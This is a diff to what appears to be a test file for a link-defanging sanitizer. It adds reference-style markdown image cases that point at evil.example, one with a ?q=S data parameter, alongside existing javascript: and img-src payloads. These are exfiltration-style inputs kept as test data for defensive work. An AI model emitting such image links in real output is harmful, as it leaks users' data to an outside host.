@@ -45,6 +45,8 @@ ATTACKS = {
     "[bank.example](http://evil.example)": "[bank[.]example] (hxxp://evil[.]example)",
     "[a](<https://evil.example/a b>)": "[a] (< hxxps://evil[.]example/a b>)",
     "[a][1]\n\n[1]: https://evil.example/": "[a][1]\n\n[1] : hxxps://evil[.]example/",
+    "![a][1]\n\n[1]: https://evil.example/?q=S": "! [a][1]\n\n[1] : hxxps://evil[.]example/?q=S",
+    "![evil][]\n\n[EVIL]: //evil.example/x": "! [evil][]\n\n[EVIL] : //evil[.]example/x",
     "[a\nb]: javascript:alert(1)": "[a\nb] : javascript[:]alert(1)",
     '<img src="https://evil.example/?q=S">': '< img src="hxxps://evil[.]example/?q=S">',
     "<IMG\nSRC=//evil.example/x>": "< IMG\nSRC=//evil[.]example/x>",
@@ -111,7 +113,8 @@ KEPT = [
     "See https://handbook.example/a.", "[it](https://handbook.example/a)",
     '[it](https://handbook.example/a "Ours")', "![logo](https://mine.example/l.png)",
     "<https://handbook.example/a>", '<img src="https://mine.example/l.png" alt="a logo">',
-    "[1]: https://handbook.example/a", "me at 10:30, or AT&T; 5 &amp; 6", "</b>", "e.g. this.",
+    "[1]: https://handbook.example/a", "![a][1]\n\n[1]: https://handbook.example/a",
+    "me at 10:30, or AT&T; 5 &amp; 6", "</b>", "e.g. this.",
     "![alt][x]", "C:\\folder\\file", "one:two", "and/or", "see README.md",
 ]  # fmt: skip
 
